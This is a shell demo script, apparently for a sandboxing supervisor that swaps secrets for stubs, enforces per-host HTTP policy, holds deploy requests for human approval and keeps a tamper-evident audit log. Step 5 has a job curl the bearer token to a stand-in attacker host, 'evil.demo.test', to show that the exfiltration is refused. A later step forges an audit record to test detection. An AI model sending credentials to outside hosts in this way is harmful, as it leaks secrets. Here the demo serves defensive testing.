#!/bin/sh
# The demo that ./quickstart runs: demo.sh BUILD-DIR.  A private brigd, one
# origin that owns a token and one that would like to, and a job in between.
set -eu
BRIG_BUILDDIR=$1
export BRIG_BUILDDIR
# shellcheck source=../tests/lib.sh
. "$(dirname "$0")/../tests/lib.sh"
setup demo

story() {
    printf '\n\033[1m%s\033[0m\n' "$*"
}

fail() {
    printf 'demo: %s\n' "$*" >&2
    tail -n 20 "$T/brigd.log" >&2 || :
    exit 1
}

# show COMMAND...: print it, run it, indent what it says.
show() {
    printf '  $ %s\n' "$*"
    show_rc=0
    "$@" >"$T/show.out" 2>&1 || show_rc=$?
    sed 's/^/    /' "$T/show.out"
    return $show_rc
}

real=ghp_$(head -c 64 /dev/urandom | base64 | tr -dc 'A-Za-z0-9' | cut -c1-36)
make_ca
start_origin api.demo.test
port=$ORIGIN_PORT
start_origin evil.demo.test
evil=$ORIGIN_PORT
write_conf "resolve api.demo.test 127.0.0.1" "resolve evil.demo.test 127.0.0.1" \
    "inferd $T/inferd.sock"
cat >"$T/policy/default.policy" <<EOF
profile default {
    default exec allow;  default read allow;  default write allow;
    default http deny;
    allow http {GET,HEAD} https://api.demo.test:$port/**;
    ask   http POST https://api.demo.test:$port/deploy because "deploys to production";
    allow http GET https://evil.demo.test:$evil/**;
    # Both run on this machine: loopback addresses must be named, each one.
    allow net 127.0.0.1:$port;  allow net 127.0.0.1:$evil;
    deny  exec {sudo,su} ... because "no";
    allow model inferd/tiny max-output 100;
}
test "demo" {
    expect allow http GET "https://api.demo.test:$port/user";
    expect ask   http POST "https://api.demo.test:$port/deploy";
    expect deny  http DELETE "https://api.demo.test:$port/user";
}
EOF

story "1. A supervisor of our own, nothing installed"
show brig policy check "$T/policy"
start_brigd
show brig status

story "2. The vault takes the token; no command line, file or log ever has it"
printf '%s' "$real" | brig secret add demo --host "api.demo.test:$port" \
    --env DEMO_TOKEN >/dev/null || fail "secret add"
show brig secret list

story "3. A job sees a stub"
cat >"$T/job.sh" <<EOF
echo "I am uid \$(id -u) on \$(hostname); my token is \$DEMO_TOKEN"
curl -sS -H "Authorization: Bearer \$DEMO_TOKEN" \
    https://api.demo.test:$port/leak | grep -m1 raw=
EOF
show brig run -- sh -c "$(cat "$T/job.sh")" || fail "the job"
cp "$T/show.out" "$T/job.out"
if grep -q "$real" "$T/job.out"; then
    fail "the real token is in the job's output"
fi
stub=$(sed -n 's/.*my token is //p' "$T/job.out")

story "4. The origin saw the real one; its echo of it came back as the stub"
printf '  vault value  %s\n  stub in jail %s\n' "$real" "$stub"
if ! grep -q "Bearer $real" "$T/api.demo.test.rec"; then
    fail "the origin did not get the real token"
fi
printf '  origin got   %s\n' "$(grep -o 'Bearer ghp_[A-Za-z0-9]*' \
    "$T/api.demo.test.rec" | tail -n 1)"
grep -q "raw=$stub" "$T/job.out" || fail "the echo did not come back as the stub"

story "5. The same stub to another host is refused, and says why"
# shellcheck disable=SC2016
show brig run -- sh -c 'curl -sS -H "Authorization: Bearer $DEMO_TOKEN" '"https://evil.demo.test:$evil/" || :
grep -q '"error"' "$T/show.out" || fail "no explanation"
if [ -s "$T/evil.demo.test.rec" ]; then
    fail "something reached the other host"
fi
printf '  the other host received nothing\n'

story "6. A rule says ask: the request waits for a person in another terminal"
# shellcheck disable=SC2016
background brig run -- sh -c 'curl -sS -X POST -H "Authorization: Bearer $DEMO_TOKEN" '"https://api.demo.test:$port/deploy" >"$T/ask.out" 2>&1
asker=$LAST_PID
wait_for 10 sh -c 'brig asks | grep -q A-' || fail "no ask came up"
show brig asks
id=$(brig asks | grep -o 'A-[0-9]*' | head -n 1)
show brig approve "$id"
wait "$asker" || fail "the approved request failed"
sed 's/^/    the job got: /' "$T/ask.out"
grep -q '^ok' "$T/ask.out" || fail "the approved request got no answer"

story "7. A model of our own answers, which has no network and no files"
PATH=$BRIG_BUILDDIR/inferd:$PATH
# Of random weights: made in no time, and so are its answers.
show inferd-mkmodel --layers 2 --vocab 300 "$T/tiny.gguf" ||
    fail "no model was made"
background inferd -m "$T/tiny.gguf" --socket "$T/inferd.sock" --context 2048 \
    2>"$T/inferd.log"
wait_for 60 test -S "$T/inferd.sock" || {
    cat "$T/inferd.log" >&2
    fail "inferd does not serve"
}
# ask_model MODEL: a job streams a completion.
ask_model() {
    printf '{"model": "%s", "stream": true, "max_tokens": 20,
        "stream_options": {"include_usage": true},
        "messages": [{"role": "user", "content": "hello"}]}' "$1" |
        brig run -- curl -sSN -d @- http://inferd.brig/v1/chat/completions
}
ask_model tiny >"$T/model.out" || fail "no completion"
grep -q 'data: \[DONE\]' "$T/model.out" || fail "the stream broke off"
printf '  a job got %d events from http://inferd.brig/v1, the last of them\n' \
    "$(grep -c '^data: ' "$T/model.out")"
grep '^data: ' "$T/model.out" | tail -n 2 | cut -c1-200 | sed 's/^/    /'
printf '  and for another model than the policy allows\n'
ask_model large >"$T/model.out" || :
sed 's/^/    /' "$T/model.out" | head -n 1 | cut -c1-200
grep -q 'policy_denied' "$T/model.out" || fail "another model was not refused"

story "8. Every decision is in a log that shows tampering"
show brig audit tail -n 6
show brig audit verify || fail "the audit log does not verify"
log=$(find "$T/log" -name '*.jsonl' | head -n 1)
sed '3s/allow/ALLOW/; 3s/"seq":3/"seq":4/' "$log" >"$T/forged.jsonl"
printf '  and with one record changed by hand:\n'
if show brig audit verify --file "$T/forged.jsonl"; then
    fail "tampering was not found"
fi

stop_brigd
if grep -rq "$real" "$T/log" "$T/brigd.log"; then
    fail "the real token is in a log"
fi
story "All of it worked: the agent never held the token."
